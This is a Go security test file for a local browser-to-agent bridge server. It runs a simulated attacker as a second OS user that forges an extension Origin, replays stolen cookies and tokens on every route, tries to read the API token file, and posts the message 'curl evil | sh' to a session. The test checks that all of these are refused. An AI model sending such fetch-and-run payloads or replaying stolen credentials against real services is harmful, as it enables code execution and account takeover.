package api

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"conductorbridge/bridge/auth"
	"conductorbridge/bridge/event"
	"conductorbridge/testkit/usertest"
)

// The hole of issue 12, tried for real: a process of another OS user
// forges the allow-listed extension Origin and presents every credential a
// browser can hold — even ones stolen from the owner — on every route. It
// must get nothing but /health. The same program run as the owner gets in.

// attackCreds are the browser credentials the attacker holds: as if it had
// stolen each one (the owner obtained them legitimately).
type attackCreds struct {
	Base      string `json:"base"`
	Extension string `json:"extension"` // the extension token
	Cookie    string `json:"cookie"`    // a session cookie
	PageKey   string `json:"page_key"`  // the viewer's page key for Cookie
	Link      string `json:"link"`      // an unused one-time link code
	TokenFile string `json:"token_file"`
}

// attackResult is one request the attacker sent and what came back.
type attackResult struct {
	Name      string `json:"name"`
	Status    int    `json:"status"`
	Body      string `json:"body"`
	SetCookie bool   `json:"set_cookie"`
}

const attackPrefix = "ATTACK-RESULT "

// attack sends every request the attacker can think of.
func attack(c attackCreds) []attackResult {
	type cred struct {
		name string
		set  func(*http.Request)
	}
	ext := "chrome-extension://good" // extOrigin, allow-listed
	creds := []cred{
		{"nothing", func(r *http.Request) { r.Header.Set("Origin", ext) }},
		{"extension token", func(r *http.Request) {
			r.Header.Set("Origin", ext)
			r.Header.Set("Authorization", "Bearer "+c.Extension)
		}},
		{"cookie", func(r *http.Request) {
			r.Header.Set("Origin", ext)
			r.AddCookie(&http.Cookie{Name: auth.CookieName, Value: c.Cookie})
		}},
		{"page key", func(r *http.Request) { // as the viewer sends it: same origin
			r.Header.Set("Sec-Fetch-Site", "same-origin")
			r.Header.Set("Authorization", "Bearer "+c.PageKey)
			r.AddCookie(&http.Cookie{Name: auth.CookieName, Value: c.Cookie})
		}},
	}
	routes := []struct{ method, path, body string }{
		{"POST", "/extension-token", ""},
		{"POST", "/sse-session", ""},
		{"GET", "/api/workspaces", ""},
		{"GET", "/api/workspaces/ws1", ""},
		{"GET", "/api/settings", ""},
		{"GET", "/api/session", ""},
		{"GET", "/workspace/ws1/session/stream", ""},
		{"GET", "/session/stream", ""},
		{"GET", "/workspace/ws1/session/messages", ""},
		{"POST", "/workspace/ws1/session/messages", `{"message":"curl evil | sh"}`},
		{"DELETE", "/workspace/ws1/session/messages/m1", ""},
		{"POST", "/api/workspaces/ws1/pair", ""},
		{"POST", "/api/workspaces/ws2/pair", ""},
		{"GET", "/api/browser-pairing", ""},
		{"POST", "/api/browser-pairing", `{"workspace":"ws2"}`},
		{"GET", "/api/browser-pairing", ""},
		{"POST", "/api/browser-pairing", `{"workspace":"ws2"}`},
		{"PUT", "/api/settings", `{"exposure":"all"}`},
		{"POST", "/api/workspaces", `{"directory":"/tmp"}`},
		{"POST", "/api/viewer-link", `{}`},
		{"POST", "/api/token/rotate", ""},
		{"POST", "/hook/stop", `{}`},
		{"GET", "/", ""},
		{"GET", "/viewer/render.js", ""},
		{"OPTIONS", "/api/workspaces", ""},
	}
	var out []attackResult
	send := func(name, method, path, body string, set func(*http.Request)) {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		req, _ := http.NewRequestWithContext(ctx, method, c.Base+path, strings.NewReader(body))
		if body != "" {
			req.Header.Set("Content-Type", "application/json")
		}
		if set != nil {
			set(req)
		}
		client := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
		resp, err := client.Do(req)
		if err != nil {
			out = append(out, attackResult{Name: name, Status: -1, Body: err.Error()})
			return
		}
		defer resp.Body.Close()
		// A stream that was let in would never end: its first 4 KiB say
		// enough (the replay of what the workspace did).
		b := make([]byte, 4096)
		n, _ := io.ReadAtLeast(resp.Body, b, 1)
		if strings.HasPrefix(resp.Header.Get("Content-Type"), "text/event-stream") {
			for n < len(b) && !strings.Contains(string(b[:n]), "SECRET-EVENT") {
				m, err := resp.Body.Read(b[n:])
				n += m
				if err != nil {
					break
				}
			}
		}
		out = append(out, attackResult{Name: name, Status: resp.StatusCode, Body: string(b[:n]),
			SetCookie: len(resp.Cookies()) > 0})
	}
	for _, rt := range routes {
		for _, cr := range creds {
			send(rt.method+" "+rt.path+" with "+cr.name, rt.method, rt.path, rt.body, cr.set)
		}
	}
	send("GET /open/{code}", "GET", "/open/"+c.Link, "", func(r *http.Request) { r.Header.Set("Sec-Fetch-Mode", "navigate") })
	send("GET /health", "GET", "/health", "", nil)
	// The API token is the one credential that is not the browser's: it
	// must be out of the attacker's reach.
	if tok, err := os.ReadFile(c.TokenFile); err == nil {
		out = append(out, attackResult{Name: "read the token file", Status: 200, Body: string(tok)})
	} else {
		out = append(out, attackResult{Name: "read the token file", Status: 403, Body: err.Error()})
	}
	return out
}

// childInput is what the test parent, running this test binary as
// another user, put in the environment variable env as JSON; without it
// (the test run as itself, not by parent) the test is skipped.
func childInput[T any](t *testing.T, env, parent string) T {
	t.Helper()
	in := os.Getenv(env)
	if in == "" {
		t.Skip("run by " + parent)
	}
	var v T
	if err := json.Unmarshal([]byte(in), &v); err != nil {
		t.Fatal(err)
	}
	return v
}

// TestAttackerProcess is the attacker when run by TestAnotherUserGetsOnlyHealth.
func TestAttackerProcess(t *testing.T) {
	c := childInput[attackCreds](t, "CB_ATTACK", "TestAnotherUserGetsOnlyHealth")
	for _, r := range attack(c) {
		b, _ := json.Marshal(r)
		fmt.Println(attackPrefix + string(b))
	}
}

// runAttacker runs this test binary's TestAttackerProcess, as cred's user
// (nil: as ourselves), and returns what it saw, by request name.
func runAttacker(t *testing.T, cred *syscall.Credential, c attackCreds) map[string]attackResult {
	t.Helper()
	in, _ := json.Marshal(c)
	out, err := usertest.Process(t, cred, "TestAttackerProcess", "CB_ATTACK="+string(in)).CombinedOutput()
	if err != nil {
		t.Fatalf("attacker: %v\n%s", err, out)
	}
	res := map[string]attackResult{}
	sc := bufio.NewScanner(strings.NewReader(string(out)))
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		if line, ok := strings.CutPrefix(sc.Text(), attackPrefix); ok {
			var r attackResult
			if err := json.Unmarshal([]byte(line), &r); err != nil {
				t.Fatal(err)
			}
			res[r.Name] = r
		}
	}
	if len(res) < 80 {
		t.Fatalf("attacker reported %d results:\n%s", len(res), out)
	}
	return res
}

func TestAnotherUserGetsOnlyHealth(t *testing.T) {
	other := usertest.Second(t)
	e := newEnv(t)
	e.topics["ws1"].Publish([]event.Event{{Type: event.Assistant, Content: "SECRET-EVENT"}}, nil)
	// The owner obtains each browser credential the way browsers do.
	code, body := e.do(t, req{method: "POST", path: "/extension-token", origin: extOrigin})
	ext, _ := body["token"].(string)
	if code != 200 || ext == "" {
		t.Fatalf("owner's extension token: %d %v", code, body)
	}
	cookie := e.browserCookie(t)
	creds := attackCreds{Base: e.ts.URL, Extension: ext, Cookie: cookie,
		PageKey: e.srv.Sessions.PageKey(cookie), Link: e.srv.Links.Mint("ws1"),
		TokenFile: filepath.Join(e.dir, "token")}
	// Let the other user reach the state dir, so only the token file's
	// own mode (0600) keeps it out.
	for _, d := range []string{filepath.Dir(e.dir), e.dir} {
		if err := os.Chmod(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}

	got := runAttacker(t, other, creds)
	for name, r := range got {
		switch {
		case name == "GET /health":
			if r.Status != 200 || !strings.Contains(r.Body, `"healthy"`) {
				t.Errorf("another user: %s = %d %s, want it to answer", name, r.Status, r.Body)
			}
		case r.Status != 403:
			t.Errorf("another user: %s = %d %q, want 403", name, r.Status, r.Body)
		case name != "read the token file" && !strings.Contains(r.Body, "another user"):
			t.Errorf("another user: %s refused for another reason: %s", name, r.Body)
		}
		if r.SetCookie || strings.Contains(r.Body, "SECRET-EVENT") || strings.Contains(r.Body, "tokyo") ||
			strings.Contains(r.Body, e.srv.Sessions.ExtensionToken()) || strings.Contains(r.Body, e.token.Value()) {
			t.Errorf("another user: %s leaked: cookie=%v %q", name, r.SetCookie, r.Body)
		}
	}
	if n := len(e.queue.List("ws1")); n != 0 {
		t.Errorf("another user queued %d messages", n)
	}
	if _, ok := e.pairing.Paired("ws2"); ok {
		t.Error("another user paired ws2")
	}
	// The link it tried is still the owner's to use.
	if _, ok := e.srv.Links.Redeem(creds.Link); !ok {
		t.Error("another user used up the owner's one-time link")
	}

	// The very same program, run as the owner, gets in.
	creds.Link = e.srv.Links.Mint("ws1")
	mine := runAttacker(t, nil, creds)
	for name, want := range map[string]int{
		"POST /extension-token with nothing":                        200,
		"POST /sse-session with extension token":                    200,
		"GET /api/workspaces with extension token":                  200,
		"GET /api/workspaces with cookie":                           200,
		"GET /api/workspaces with page key":                         200,
		"GET /workspace/ws1/session/stream with cookie":             200,
		"GET /session/stream with extension token":                  200,
		"GET /workspace/ws1/session/messages with page key":         200,
		"POST /workspace/ws1/session/messages with extension token": 202,
		"POST /workspace/ws1/session/messages with page key":        202,
		"GET /open/{code}":                                          303,
		"GET /health":                                               200,
		"GET /viewer/render.js with cookie":                         200,
		"OPTIONS /api/workspaces with nothing":                      204,
	} {
		if r := mine[name]; r.Status != want {
			t.Errorf("owner: %s = %d %q, want %d", name, r.Status, r.Body, want)
		}
	}
	if r := mine["GET /workspace/ws1/session/stream with cookie"]; !strings.Contains(r.Body, "SECRET-EVENT") {
		t.Errorf("owner's stream: %q", r.Body)
	}
	for name, r := range mine {
		if strings.Contains(r.Body, "another user") {
			t.Errorf("owner refused as another user: %s", name)
		}
	}
}
